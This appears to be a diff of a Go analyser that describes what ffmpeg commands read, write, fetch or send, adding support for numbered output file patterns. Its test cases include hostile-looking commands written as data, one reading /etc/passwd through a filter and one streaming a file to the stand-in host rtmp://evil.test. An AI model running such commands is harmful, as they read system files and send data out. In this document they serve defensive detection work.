@@ -28,7 +28,7 @@ var ffmpeg = Program{
 var ffmpegCases = []Case{
 	{`ffmpeg -y -i a.mov -c:v libx264 -crf 23 b.mp4`, `Read a.mov; Write b.mp4`},
 	{`ffmpeg -f x11grab -i :0 b.mp4`, `Control the screen; Read :0; Write b.mp4`},
-	{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/**`},
+	{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/f….png`},
 	{`ffmpeg -i a.mov -vf "movie=/etc/passwd" b.mp4`, `Read a.mov; Write b.mp4; Unknown a filter may read or write files`},
 	{`ffmpeg -i https://a/b.m3u8 b.mp4`, `Fetch https://a/b.m3u8; Write b.mp4`},
 	{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
@@ -61,6 +61,10 @@ func ffmpegFiles(m *Match) {
 		case isURL:
 			m.Unknown("nobody read what such an output names", w)
 		case strings.IndexByte(w.Text, '%') >= 0:
+			if row, ok := numberedRow(w); ok {
+				m.addRole(Writes, &row, "writes a row of files")
+				continue
+			}
 			folder := w
 			folder.Text = "."
 			if i := strings.LastIndexByte(w.Text, '/'); i >= 0 {
@@ -79,6 +83,19 @@ func ffmpegFiles(m *Match) {
 			m.Unknown("a filter may read or write files", h.Value)
 		}
 	}
+}
+
+// numberedRow is the name of any of the files that one with a place for a number
+// stands for: "out/f%03d.png".
+func numberedRow(w Word) (row Word, ok bool) {
+	i := strings.IndexByte(w.Text, '%')
+	rest := strings.TrimLeft(w.Text[i+1:], "0123456789")
+	if !w.Exact() || rest == "" || rest[0] != 'd' || strings.ContainsAny(rest, "%/") {
+		return w, false
+	}
+	row = w
+	row.Text, row.Suffix, row.Known, row.Digits = w.Text[:i], rest[1:], automode.Bounded, true
+	return row, true
 }
 
 // limited reports whether an option says how much is written at most.
